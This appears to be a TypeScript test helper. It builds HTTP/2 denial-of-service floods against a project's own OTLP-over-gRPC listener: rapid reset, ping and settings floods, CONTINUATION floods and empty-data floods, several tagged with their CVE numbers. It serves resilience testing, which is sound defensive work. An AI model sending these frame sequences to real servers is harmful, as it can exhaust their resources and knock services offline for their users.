import { methods } from '../../../src/stages/ingest/otlp-grpc/route.ts';
import { ack, endHeaders, endStream, frame, headerBlock, noSettings, types } from '../../support/http2-frames.ts';

/** One way to keep a server of HTTP/2 busy, over one connection after the other. */
export interface Flood {
  readonly name: string;
  /** Reads what comes; otherwise the server has to keep it. */
  readonly reads: boolean;
  /** Whether it says that it knows the settings of the server, the most streams at a time among them. */
  readonly acknowledges: boolean;
  /** Once, after the settings. */
  readonly begin: readonly Buffer[];
  /** Again and again: the frames with this number, from 0. */
  readonly frames: (number: number) => readonly Buffer[];
}

const four = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const streamOf = (number: number): number => 2 * number + 1;
const cancel = frame.bind(undefined, types.reset);

/** The floods against a listener of OTLP over gRPC; `secret`: of a source. */
export function floodsOf(secret: string): readonly Flood[] {
  const payload = headerBlock({
    ':method': 'POST',
    ':scheme': 'http',
    ':path': methods.logs,
    ':authority': 'millrace',
    'content-type': 'application/grpc',
    te: 'trailers',
    authorization: `Bearer ${secret}`,
  });
  const call = (stream: number): Buffer => frame(types.headers, { stream, flags: endHeaders, payload });
  const nothing = frame(types.headers, {
    flags: endHeaders | endStream,
    payload: headerBlock({ ':method': 'POST', ':scheme': 'http', ':path': '/', ':authority': 'millrace' }),
  });
  const wrongCall = (stream: number): Buffer => {
    const bytes = Buffer.from(nothing);
    bytes.writeUInt32BE(stream, 5);
    return bytes;
  };
  const usual = { reads: true, acknowledges: true, begin: [] };
  const onOneCall = { ...usual, begin: [call(1)] };
  const again = (bytes: Buffer): Flood['frames'] => {
    const frames = [bytes];
    return () => frames;
  };
  return [
    {
      // CVE-2023-44487.
      name: 'calls that are reset',
      ...usual,
      frames: (number) => [call(streamOf(number)), cancel({ stream: streamOf(number), payload: four(8) })],
    },
    {
      // CVE-2025-8671: by a window update of nothing.
      name: 'calls that the server must reset',
      ...usual,
      frames: (number) => [
        call(streamOf(number)),
        frame(types.windowUpdate, { stream: streamOf(number), payload: four(0) }),
      ],
    },
    { name: 'calls without a message', ...usual, frames: (number) => [call(streamOf(number))] },
    { name: 'calls that are no calls', ...usual, frames: (number) => [wrongCall(streamOf(number))] },
    {
      name: 'refusals that nobody reads',
      ...usual,
      reads: false,
      acknowledges: false,
      frames: (number) => [wrongCall(streamOf(number))],
    },
    // CVE-2019-9515 and CVE-2019-9512.
    { name: 'settings', ...usual, reads: false, frames: again(noSettings) },
    { name: 'pings', ...usual, reads: false, frames: again(frame(types.ping, { payload: Buffer.alloc(8) })) },
    { name: 'pings that are read', ...usual, frames: again(frame(types.ping, { payload: Buffer.alloc(8) })) },
    {
      // CVE-2024-27316.
      name: 'headers without an end',
      ...usual,
      begin: [
        frame(types.headers, { stream: 1, payload: payload.subarray(0, 1) }),
        frame(types.continuation, { stream: 1, payload: payload.subarray(1) }),
      ],
      frames: again(frame(types.continuation, { stream: 1, payload: headerBlock({ a: 'b'.repeat(100) }) })),
    },
    {
      name: 'continuations of nothing',
      ...usual,
      begin: [frame(types.headers, { stream: 1, payload })],
      frames: again(frame(types.continuation, { stream: 1 })),
    },
    // CVE-2019-9518.
    { name: 'data of nothing', ...onOneCall, frames: again(frame(types.data, { stream: 1 })) },
    {
      name: 'data of padding',
      ...onOneCall,
      frames: again(
        frame(types.data, { stream: 1, flags: 8, payload: Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]) }),
      ),
    },
    {
      name: 'data byte by byte',
      ...onOneCall,
      frames: again(frame(types.data, { stream: 1, payload: Buffer.alloc(1) })),
    },
    {
      name: 'window updates',
      ...onOneCall,
      frames: again(
        Buffer.concat([
          frame(types.windowUpdate, { payload: four(1) }),
          frame(types.windowUpdate, { stream: 1, payload: four(1) }),
        ]),
      ),
    },
    {
      name: 'priorities',
      ...onOneCall,
      frames: (number) => [frame(2, { stream: streamOf(number + 1), payload: Buffer.from([0, 0, 0, 0, 16]) })],
    },
    { name: 'unknown frames', ...usual, frames: again(frame(0x42, { payload: Buffer.alloc(8) })) },
  ];
}

/** What says that the settings of the server are known. */
export const settingsKnown = frame(types.settings, { flags: ack });
